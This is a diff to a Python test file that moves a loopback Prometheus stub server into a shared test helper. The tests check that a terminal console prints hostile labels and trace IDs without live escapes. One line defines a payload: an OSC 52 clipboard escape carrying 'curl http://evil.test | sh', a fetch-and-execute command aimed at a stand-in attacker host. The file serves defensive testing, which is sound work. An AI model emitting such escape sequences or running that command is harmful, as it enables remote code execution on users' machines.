@@ -16,9 +16,7 @@ import random
 import re
 import subprocess
 import sys
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -47,6 +45,7 @@ from console.plugin_api import PluginContext
 from console.tui.app import CallboardApp
 from console.tui.safe_render import install
 from console.tui.widgets.fleet_table import FleetTable
+from tests.loopback import Quiet, serve
 
 CLIP = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.test | sh").decode() + "\x1b\\"
 PAYLOADS = {
@@ -334,7 +333,7 @@ def test_trace_id_prints_a_hostile_otlp_span_without_escapes(tmp_path: Path) -> 
     assert_inert(out.stdout.replace("\n", ""), "trace ID")
 
 
-class _PromStub(BaseHTTPRequestHandler):
+class _PromStub(Quiet):
     service = "checkout"
 
     def do_GET(self) -> None:
@@ -350,30 +349,15 @@ class _PromStub(BaseHTTPRequestHandler):
         else:
             body = {"status": "success", "data": {"resultType": "vector",
                     "result": [_prom_row(self.service)]}}  # fmt: skip
-        data = json.dumps(body).encode()
-        self.send_response(200)
-        self.send_header("content-type", "application/json")
-        self.send_header("content-length", str(len(data)))
-        self.end_headers()
-        self.wfile.write(data)
-
-    def log_message(self, *args: Any) -> None:
-        return None
+        self.answer(json.dumps(body).encode())
 
 
 @pytest.fixture
 def prom_stub() -> Iterator[str]:
     """A loopback Prometheus whose label values carry every payload."""
     handler = type("Stub", (_PromStub,), {"service": hostile("checkout", 14)})
-    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}"
-    finally:
-        server.shutdown()
-        server.server_close()
-        thread.join(timeout=10)
+    with serve(handler) as url:
+        yield url
 
 
 def test_status_prints_hostile_prometheus_labels_without_escapes(
